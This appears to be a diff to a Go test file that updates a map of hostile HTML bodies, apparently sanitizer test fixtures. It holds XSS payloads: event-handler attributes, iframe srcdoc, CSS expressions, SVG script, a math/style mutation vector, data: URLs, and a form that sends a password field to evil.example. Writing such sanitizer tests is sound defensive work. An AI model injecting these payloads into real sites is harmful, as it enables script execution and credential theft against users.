@@ -35,7 +35,7 @@ var hostileBodies = map[string]string{
 	"on* attributes":    `<p onclick="alert(3)" onmouseover=alert(3)>x</p><img src="/upload/a.jpg" onerror="alert(3)"><body onload="alert(3)"><details open ontoggle=alert(3)>`,
 	"iframe":            `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(4)</script>"></iframe><frame src="x"><object data="evil.swf"></object><embed src="evil.swf">`,
 	"CSS expressions":   `<div style="width:expression(alert(5))">a</div><p style="background:url(javascript:alert(5))">b</p><style>body{behavior:url(x.htc)}</style><div style="-moz-binding:url(evil.xml#x)">c</div>`,
-	"SVG with script":   `<svg><script>alert(6)</script></svg><svg onload="alert(6)"><a xlink:href="javascript:alert(6)"><text>x</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(6)>`,
+	"SVG with script":   `<svg><script>alert(6)</script></svg><svg onload="alert(6)"><a xlink:href="javascript:alert(6)"><text>x</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>`,
 	"data: URLs":        `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNyk+"><img src="data:text/html,<script>alert(7)</script>"><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">d</a><img srcset="data:image/png;base64,AAAA 1x">`,
 	"forms and meta":    `<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(8)">go</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`,
 }
